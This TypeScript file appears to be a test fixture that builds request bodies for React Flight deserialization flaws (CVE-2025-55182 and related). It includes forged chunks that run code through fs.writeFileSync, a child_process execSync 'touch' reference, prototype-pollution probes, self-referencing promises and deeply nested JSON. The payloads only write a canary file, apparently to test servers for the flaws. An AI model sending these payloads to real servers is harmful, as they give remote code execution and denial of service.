/** A body that a decoder of React's Flight format would read, as published for CVE-2025-55182, -55183, -55184 and -67779. */
export interface FlightBody {
  name: string;
  contentType: string;
  body: string;
}

const BOUNDARY = "----slipwayAttack";

const multipart = (fields: Record<string, string>): Pick<FlightBody, "contentType" | "body"> => ({
  contentType: `multipart/form-data; boundary=${BOUNDARY}`,
  body: `${Object.entries(fields)
    .map(([name, value]) => `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`)
    .join("")}--${BOUNDARY}--\r\n`,
});

const plain = (body: string): Pick<FlightBody, "contentType" | "body"> => ({ contentType: "text/plain;charset=UTF-8", body });

/** A chunk that claims to be resolved, and has code for a prefix: `canary` is the file that the code would write. */
const resolvedModel = (canary: string, getter: string): Record<string, string> => ({
  "0": JSON.stringify({
    // biome-ignore lint/suspicious/noThenProperty: a forged thenable is the attack.
    then: "$1:__proto__:then",
    status: "resolved_model",
    reason: -1,
    value: '{"then":"$B1337"}',
    _response: {
      _prefix: `process.mainModule.require('fs').writeFileSync('${canary}','x');`,
      _chunks: "$Q2",
      _formData: { get: getter },
    },
  }),
  "1": '"$@0"',
  "2": "[]",
});

export const flightBodies = (canary: string): FlightBody[] => [
  { name: "a forged chunk with a constructor", ...multipart(resolvedModel(canary, "$1:constructor:constructor")) },
  { name: "a forged chunk by way of __proto__", ...multipart(resolvedModel(canary, "$1:__proto__:constructor:constructor")) },
  { name: "a forged chunk by way of then", ...multipart(resolvedModel(canary, "$1:then:constructor")) },
  { name: "a property of nothing", ...multipart({ "0": '["$1:a:a"]', "1": "{}" }) },
  {
    name: "own and inherited properties",
    ...multipart({ "0": '["$1:__proto__:polluted","$1:constructor:name","$1:toString:constructor"]', "1": "{}" }),
  },
  { name: "a promise of itself", ...multipart({ "0": '"$@0"' }) },
  { name: "two promises of each other", ...multipart({ "0": '"$@1"', "1": '"$@0"' }) },
  { name: "a map of itself", ...multipart({ "0": '"$Q0"' }) },
  { name: "an iterator of itself", ...multipart({ "0": '"$i0"' }) },
  {
    name: "a reference to a server's function",
    ...multipart({ "0": '["$F1"]', "1": JSON.stringify({ id: "child_process#execSync", bound: [`touch ${canary}`] }) }),
  },
  { name: "a form's action by its id", ...multipart({ $ACTION_ID_0000000000000000000000000000000000000000: "" }) },
  {
    name: "a form's action by reference",
    ...multipart({
      $ACTION_REF_1: "",
      "$ACTION_1:0": '{"id":"fs#writeFileSync","bound":"$@1"}',
      "$ACTION_1:1": `["${canary}","x"]`,
      $ACTION_KEY: "k",
    }),
  },
  { name: "a text that asks for its source", ...plain('["$F1"]') },
  { name: "a list", ...plain("[]") },
  { name: "nothing", ...plain("") },
  { name: "no JSON", ...plain("\u0000\u0001{[") },
  { name: "deep JSON", ...plain("[".repeat(20_000)) },
  { name: "a component's own type", contentType: "text/x-component", body: '0:["$","div",null,{}]\n' },
  { name: "a multipart without a boundary", contentType: "multipart/form-data", body: "x" },
  { name: "a form", contentType: "application/x-www-form-urlencoded", body: "%24ACTION_ID_x=&__proto__[x]=1" },
];
